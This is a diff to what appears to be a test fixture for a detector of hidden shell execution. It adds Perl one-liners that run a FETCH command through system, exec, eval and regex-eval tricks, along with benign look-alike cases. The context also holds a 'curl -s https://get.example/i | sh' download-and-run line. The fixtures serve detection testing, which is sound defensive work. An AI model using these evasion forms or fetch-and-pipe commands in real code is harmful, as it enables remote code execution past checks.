@@ -81,6 +81,12 @@ export const JOINED_LANGUAGES: readonly ImageCase[] = [
     `my %h = (a => "cu", b => "${REST}"); system($h{a} . $h{b});`,
     `my $h = {a => "cu"}; system("$h->{a}${REST}");`,
     `my $s = sub { system(shift) }; $s->("cu" . "${REST}");`,
+    `system "${FETCH}" if $ENV{A};`,
+    `system '${FETCH}' or die "it's not there";`,
+    `exec "${FETCH}" unless fork;`,
+    `system '', or => "${FETCH}"; system '${FETCH} #'.\\n"x";`,
+    `$_ = "a"; s". "exec '${FETCH}'"e;`,
+    `eval "system '${FETCH}' ";`,
   ].map((code) => told('perl', '-e', code)),
   ...[
     `local f = os["exe".."cute"]; f("${FETCH}")`,
@@ -161,6 +167,10 @@ export const JOINED_LANGUAGE_TWINS: readonly ImageCase[] = [
       'my %t = (hint => "curl -s https://get.example/i | sh", run => "date"); print $t{hint}; system($t{run});',
       'my $say = sub { print shift }; $say->($hint);',
       'my $v = $ok ? open : 1; my $w = $ok ? system : exec;',
+      // Words of calls in messages.
+      `die("exec " . join(' ', @ARGV)) if $v; exec @ARGV or die('exec ' . join(' ', @ARGV) . " failed: $!");`,
+      `if ($w) { die "unsupported version control system '$v'.\\n"; }`,
+      `print "it is there";`,
       '',
     ].join('\n'),
   }),
